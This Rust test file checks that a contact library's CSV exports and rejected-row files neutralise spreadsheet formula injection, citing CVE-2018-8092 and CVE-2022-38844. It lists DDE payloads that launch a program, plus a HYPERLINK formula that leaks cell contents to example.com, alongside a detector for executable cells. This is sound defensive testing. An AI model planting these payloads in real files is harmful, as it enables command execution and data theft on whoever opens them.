//! Formulas in files for spreadsheets: no text is one, and every value comes back as it was (docs/vulnerability-classes.md).
//!
//! Mautic and EspoCRM exported contacts as they were typed: CVE-2018-8092, <https://github.com/mautic/mautic/releases/tag/2.13.0>;
//! CVE-2022-38844, <https://nvd.nist.gov/vuln/detail/CVE-2022-38844>.

use crate::import_books::{book, everything, now};
use std::io::Cursor;
use tagmata::{
    Book, CsvOptions, CsvReader, Draft, ExportNames, ExportOptions, ImportOptions, NewSegment, RejectedRows,
};

const FORMULAS: &[&str] = &[
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://example.com/?\"&A1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "\"=1+1\"",
    "'=1+1",
    "''=1+1",
    "=1,2",
    "=1;2",
    "=1\n=2",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    " '=1+1",
];

/// The cells of a file as a spreadsheet takes them apart.
fn cells(file: &str, delimiter: u8) -> Vec<String> {
    let mut cells = Vec::new();
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .delimiter(delimiter)
        .from_reader(file.as_bytes());
    for record in reader.records() {
        cells.extend(record.unwrap().iter().map(str::to_owned));
    }
    cells
}

/// Whether a spreadsheet would run something of a file. A number or a phone number with a sign is nothing that is run.
fn runs(file: &str, delimiter: u8) -> Option<String> {
    let is_numeral = |cell: &str| cell[1..].chars().all(|c| c.is_ascii_digit() || " .,".contains(c));
    cells(file, delimiter).into_iter().find(|cell| {
        let cell = cell.trim_start_matches([' ', '\n']);
        cell.starts_with(['=', '@', '\t', '\r', '\0']) || (cell.starts_with(['+', '-']) && !is_numeral(cell))
    })
}

/// A book with formulas wherever people write text.
fn hostile_book() -> Book {
    let mut book = book();
    book.update_field("note", Some("=LABEL()"), [], now()).unwrap();
    for (at, formula) in FORMULAS.iter().enumerate() {
        let tag = formula.trim().replace([';', '|'], "/");
        let draft = Draft::new()
            .set("first_name", *formula)
            .set("last_name", *formula)
            .set("organization", *formula)
            .set("source", *formula)
            .set("external_id", format!("=ID({at})"))
            .set("note", *formula)
            .set("tags", [tag.as_str(), "vip"])
            .set("mobile", format!("+336123456{at:02}"))
            .set("country", "FR")
            .set("billed", -1.5 - at as f64)
            .set("status", "lead");
        book.create_contact(draft, now()).unwrap();
    }
    book.create_segment(NewSegment::with_members("=SEGMENT()", "everyone"), now()).unwrap();
    book
}

#[test]
fn exports_hold_no_formulas() {
    let book = hostile_book();
    for names in [ExportNames::Keys, ExportNames::Labels] {
        for (word, delimiter) in [(",", b','), (";", b';')] {
            let mut file = Vec::new();
            let options = ExportOptions::new().names(names).delimiter(word.parse().unwrap());
            book.export(&mut file, "everyone", None, options).unwrap();
            assert_eq!(runs(std::str::from_utf8(&file).unwrap(), delimiter), None);
        }
    }
}

/// Phone numbers, negative numbers and texts that were guarded are, imported again, what they were.
#[test]
fn guarded_values_come_back_as_they_were() {
    let hostile = hostile_book();
    let mut file = Vec::new();
    hostile.export(&mut file, "everyone", None, ExportOptions::new()).unwrap();
    let exported = String::from_utf8(file.clone()).unwrap();
    assert!(exported.contains(",+33612345600,") && exported.contains(",-1.5,"), "{exported}");

    // In its own book, nothing changes; in another one, the same contacts are made.
    let options = ImportOptions::new()
        .match_by(["external_id".parse().unwrap()])
        .unknown_segments("create".parse().unwrap());
    let mut same = hostile.clone();
    let report = same.import(Cursor::new(file.clone()), &options, now()).unwrap();
    assert_eq!((report.unchanged, report.problems.as_slice()), (FORMULAS.len() as u64, &[][..]));
    let mut other = book();
    let report = other.import(Cursor::new(file), &options, now()).unwrap();
    assert_eq!((report.created, report.problems.as_slice()), (FORMULAS.len() as u64, &[][..]));
    assert_eq!(everything(&other), everything(&hostile));
}

/// A file of rejected rows is for a spreadsheet, too: whoever wrote the rejected file need not be who opens that of its rows.
#[test]
fn files_of_rejected_rows_hold_no_formulas_and_read_as_they_did() {
    let schema = book().schema().clone();
    let mut file = String::from("=first_name;note;mobile;billed;status\n");
    for formula in FORMULAS.iter().filter(|formula| !formula.contains('\r')) {
        let cell = format!("\"{}\"", formula.replace('"', "\"\""));
        file.push_str(&format!("{cell};{cell};+33 6 12 34 56 78;-1 234,5;laed\n"));
    }
    let options = CsvOptions::new().column("=first_name", "first_name");
    let rejected = |file: &str| {
        let mut reader = CsvReader::open(Cursor::new(file.to_owned()), &schema, &options).unwrap();
        let (mut rejected, mut values) = (RejectedRows::new(&reader), Vec::new());
        for row in reader.by_ref().map(Result::unwrap) {
            assert!(row.is_rejected());
            rejected.add(&row, row.problems());
            values.push(format!("{:?}", row.values().collect::<Vec<_>>()));
        }
        (rejected.into_csv(), values)
    };
    let (first, values) = rejected(&file);
    assert_eq!(runs(&first, b';'), None, "{first}");
    assert!(first.contains(";+33 6 12 34 56 78;-1 234,5;"), "{first}");
    // Read again, the rows have the same values, and are written in the same way.
    let (second, values_again) = rejected(&first);
    assert_eq!((second, values_again), (first, values));
}
